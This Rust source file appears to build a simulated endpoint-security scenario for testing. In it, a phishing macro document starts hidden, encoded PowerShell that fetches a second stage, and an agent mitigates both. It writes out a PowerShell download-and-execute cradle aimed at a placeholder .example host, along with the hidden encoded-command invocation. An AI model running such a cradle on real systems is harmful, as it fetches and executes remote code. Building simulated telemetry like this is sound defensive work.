//! A mailed document whose macro starts PowerShell, which would have fetched more. The laptop protects itself: both
//! the document and the script are stopped after they ran. What is left to do is to check that.

use serde_json::json;

use crate::fleet::Role;
use crate::scenario::{Cast, Scenario, Step, at};
use crate::telemetry::programs::{self as on, Program};
use crate::telemetry::{FileChange, Story};
use crate::threat::{Engine, Outcome, Threat, encoded_command, indicator};

pub(crate) const SCENARIO: Scenario =
    Scenario { name: "phishing-document", about: "a mailed document starts PowerShell; the agent stops both", steps };

fn steps(cast: &mut Cast<'_>) -> Vec<Step> {
    let host = cast.host(Role::Laptop, 1);
    let document = cast.say("請求書_至急ご確認ください.docm", "Overdue_Invoice_Review.docm");
    let folder = cast.say("添付ファイル", "Attachments");
    let path = format!(r"\Device\HarddiskVolume3\Users\{{user}}\Documents\{folder}\{document}");
    let word = format!(
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{{user}}\Documents\{folder}\{document}""#
    );
    let dropper = Threat::new(&host, document, Engine::Documents)
        .path(&path)
        .hashed_from("phishing-document document")
        .classified("Downloader")
        .storyline("mail")
        .outcome(Outcome::Mitigated)
        .ran(&word, "OUTLOOK.EXE")
        .info(
            "macroModules",
            json!([{"moduleName": "ThisDocument", "sha1": "5f1c8a0be6d94a1c2f3b7d6a9e0c4b8d7a6f5e31"}]),
        )
        .indicator(indicator(
            "General",
            "The document contains a macro that runs when it is opened.",
            &[52],
            &[("Initial Access", &["T1566.001"]), ("Execution", &["T1204.002"])],
        ))
        .indicator(indicator(
            "Evasion",
            "An Office program started a command interpreter.",
            &[211],
            &[("Execution", &["T1059.001"])],
        ));

    let plain = "IEX (New-Object Net.WebClient).DownloadString('http://files.parcel-notice.example/st2.txt')";
    let script = encoded_command(plain);
    let document_path = format!(r"C:\Users\{{user}}\Documents\{folder}\{document}");
    let dropper = dropper.told_by(story(&host, document, &document_path, &word, plain, &script));
    let shell = Threat::new(&host, "powershell.exe", Engine::Behavioral)
        .path(r"\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
        .hashed_from("phishing-document shell")
        .classified("Trojan")
        .signed_by("MICROSOFT WINDOWS")
        .storyline("mail")
        .outcome(Outcome::Mitigated)
        .info("isFileless", true)
        .ran(&format!("powershell.exe -w hidden -nop -enc {script}"), "WINWORD.EXE")
        .indicator(indicator(
            "Evasion",
            "PowerShell ran hidden with an encoded command.",
            &[196],
            &[("Execution", &["T1059.001"]), ("Defense Evasion", &["T1027", "T1564.003"])],
        ))
        .indicator(indicator(
            "General",
            "A script was downloaded and run from memory.",
            &[131],
            &[("Command and Control", &["T1105"])],
        ))
        // One story for both threats; the document tells it.
        .told_by(Story::on(&host));
    vec![at(0.0).raise("document", dropper), at(1.5).raise("shell", shell)]
}

/// Mail, document, macro, PowerShell; the agent stops it a second after the script reached out.
fn story(host: &str, document: &str, path: &str, word: &str, plain: &str, script: &str) -> Story {
    let mut story = Story::on(host);
    let mail = story.running(on::OUTLOOK);
    story.visit(-140.0, mail, "mail.inbound-relay.example", "198.51.100.33", 443);
    story.drop(-120.0, mail, &Program::brought(document, path, "phishing-document document"));
    let word = story.start(-32.0, mail, on::WINWORD, word);
    story.module(
        -20.0,
        word,
        r"C:\Program Files\Microsoft Office\root\VFS\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL",
        "MICROSOFT CORPORATION",
    );
    story.indicate(-0.3, word, "General", "MacroAutoRun", "The document contains a macro that runs when it is opened.");
    let shell = on::POWERSHELL.hashed_from("phishing-document shell");
    let shell = story.start(-0.2, word, shell, &format!("powershell.exe -w hidden -nop -enc {script}"));
    story.script(0.1, shell, plain);
    story.visit(0.4, shell, "files.parcel-notice.example", "203.0.113.77", 80);
    story.fetch(0.7, shell, "GET", "http://files.parcel-notice.example/st2.txt");
    story.indicate(1.2, shell, "Evasion", "EncodedPowerShell", "PowerShell ran hidden with an encoded command.");
    story.end(1.4, shell);
    story.end(1.5, word);
    story.file(1.6, mail, FileChange::Deleted, path);
    story
}
